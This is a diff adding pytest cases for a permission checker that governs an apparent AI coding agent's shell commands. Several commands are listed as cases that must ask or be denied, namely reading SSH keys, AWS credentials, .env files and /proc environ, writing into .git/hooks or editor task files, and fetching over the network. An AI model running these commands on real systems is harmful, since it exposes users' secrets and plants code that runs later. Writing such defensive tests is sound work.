@@ -207,6 +207,73 @@ def test_a_word_that_the_shell_completes_to_a_forbidden_command_asks(place: Plac
         assert ask("bash", command, place, "yolo", rules).decision == "deny", command
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -o .git/hooks/x http://example.org",
+        "gcc -o .git/hooks/x x.c",
+        "find . -fprint .git/hooks/x",
+        "file -C -m .git/x",
+        "echo $(<.env)",
+        "x=$(< .env)",
+        "cd .git && echo x > hooks/post-commit",
+        "cd .git/hooks && cp x y",
+        "cd .git; touch x",
+        "(cd .git/hooks; touch x)",
+        "pushd .vscode; cp x tasks.json",
+        "cd ~ && cat .ssh/id_rsa",
+        "cd $HOME; cat .aws/credentials",
+        "cat /proc/self/environ",
+        "cat /proc/1/environ",
+        "strings /proc/self/task/1/environ",
+        "cat /proc/self/root/etc/x",
+        "python -c 'print(open(\".env\").read())'",
+        "python3 -c \"open('.git/hooks/x','w')\"",
+        "node -e 'fs.readFileSync(`.env`)'",
+    ],
+)
+def test_what_is_protected_is_asked_for_in_yolo_however_it_is_reached(place: Place, command: str) -> None:
+    for mode in MODES:
+        assert ask("bash", command, replace(place, sandboxed=True), mode).decision != "allow", mode
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("cd src && cp a b", "python -c 'import os; print(os.environ)'", "gcc -o x x.c", "cat /proc/cpuinfo > x"),
+        *(
+            "node -e 'console.log(process.env.HOME)'",
+            "curl -o x http://example.org",
+            "git commit -m 'read .env.example'",
+        ),
+    ],
+)
+def test_yolo_does_not_ask_for_what_only_sounds_protected(place: Place, command: str) -> None:
+    assert ask("bash", command, place, "yolo").decision == "allow"
+
+
+ORDINARY = """
+pytest -q; python -m pytest -x tests; python3 -m unittest; make -j4 test; make build && make test; npm test; npm run lint -- --fix; yarn test;
+pnpm -r test; cargo test --workspace; cargo +nightly clippy -- -D warnings; go test ./...; tox; ruff check .; mypy .; npx tsc --noEmit; npx jest;
+uv run pytest; poetry run pytest; ./gradlew test; ./mvnw -q verify; sh scripts/test.sh; bash ./test.sh; ./run_tests.sh; cmake --build build; ctest;
+dotnet test; swift test; bundle exec rspec; vendor/bin/phpunit; gcc -o x x.c && ./x; cd src && pytest 2>&1 | tail -20; just test; ruby x.rb
+"""
+FETCHING = """
+npm install; npm ci; pip install x; python -m pip install x; python3 -m pip install -r r.txt; uv sync; uv add x; cargo install x; cargo add x;
+go get x; go run x@latest; go install x@v1; git push; git fetch; npx cowsay; npx create-app x; npm publish; curl x; wget x; ssh x; docker run x;
+pytest && curl x; make && git push; npm exec x; yarn dlx x; poetry install; composer install; bash -c 'curl x'; sh < x; ../x.sh; /tmp/x.sh; ~/x.sh
+"""
+
+
+def test_building_and_testing_runs_unasked_in_a_sandbox_and_fetching_asks(place: Place) -> None:
+    boxed = replace(place, sandboxed=True)
+    for command in filter(None, map(str.strip, ORDINARY.split(";"))):
+        assert ask("bash", command, boxed, "auto").decision == "allow", command
+        assert ask("bash", command, place, "auto").decision == "ask", command
+    for command in filter(None, map(str.strip, FETCHING.split(";"))):
+        assert ask("bash", command, boxed, "auto").decision == "ask", command
+
+
 def test_a_command_that_hides_its_name_asks_where_deny_rules_stand(place: Place) -> None:
     rules = parse_rules(allow=["bash"], deny=["bash(rm *)"])
     assert ask("bash", "$CMD x", place, "yolo", rules).decision == "ask"
